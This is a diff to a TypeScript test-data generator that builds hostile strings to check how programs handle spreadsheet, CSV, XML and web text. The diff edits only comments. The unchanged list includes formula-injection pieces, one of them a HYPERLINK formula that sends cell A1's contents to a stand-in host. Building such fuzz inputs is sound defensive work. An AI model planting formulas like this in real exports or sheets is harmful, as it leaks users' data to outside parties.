@@ -1,8 +1,8 @@
-/** Texts that break careless files, the same ones for the same count. */
+/** Texts that careless programs damage, the same ones for the same count. */
 
 const MOST_CELL_CHARS = 32_767;
 
-/** What a spreadsheet, CSV, XML or a web page may take for something else. */
+/** Texts that a spreadsheet, CSV, XML or a web page may interpret. */
 const PIECES: readonly string[] = [
   "=1+1",
   '=HYPERLINK("http://kotu.example/?q="&A1;"Tıkla")',
@@ -85,7 +85,7 @@ const PIECES: readonly string[] = [
 
 const NUL = "\0";
 
-/** Texts at the limit of a cell, where a cut may fall between the halves of a letter. */
+/** Texts at the limit of a cell, where a cut may split a surrogate pair. */
 const LONG: readonly string[] = [
   "ş".repeat(MOST_CELL_CHARS),
   `=${"x".repeat(MOST_CELL_CHARS - 1)}`,
@@ -98,7 +98,7 @@ const LONG: readonly string[] = [
   "\u0001&<>".repeat(10_000),
 ];
 
-/** Numbers from 0 up to and without 1 (mulberry32). */
+/** Numbers from 0 up to 1 (mulberry32). */
 function createRandom(seed: number): () => number {
   let state = seed;
   return () => {
@@ -112,8 +112,8 @@ function createRandom(seed: number): () => number {
 const MOST_PIECES = 6;
 
 /**
- * Each piece alone, before and after a word and before a formula; the long ones; then mixtures. None
- * is empty.
+ * Each piece alone, before and after a word and before a formula; the long texts; then
+ * combinations. None is empty.
  */
 export function createHostileTexts(count: number, seed = 1): readonly string[] {
   const pieces = [...PIECES, NUL];
@@ -134,7 +134,7 @@ export function createHostileTexts(count: number, seed = 1): readonly string[] {
   return [...planned, ...mixed].slice(0, count);
 }
 
-/** The text as a CSV file can hold it: half a letter is none, and with a NUL it were no text file. */
+/** The text as a CSV file can hold it: without unpaired surrogates and NUL. */
 export const toCsvText = (text: string): string => text.toWellFormed().replaceAll(NUL, "\ufffd");
 
 /** The text as a cell of a workbook can hold it. */
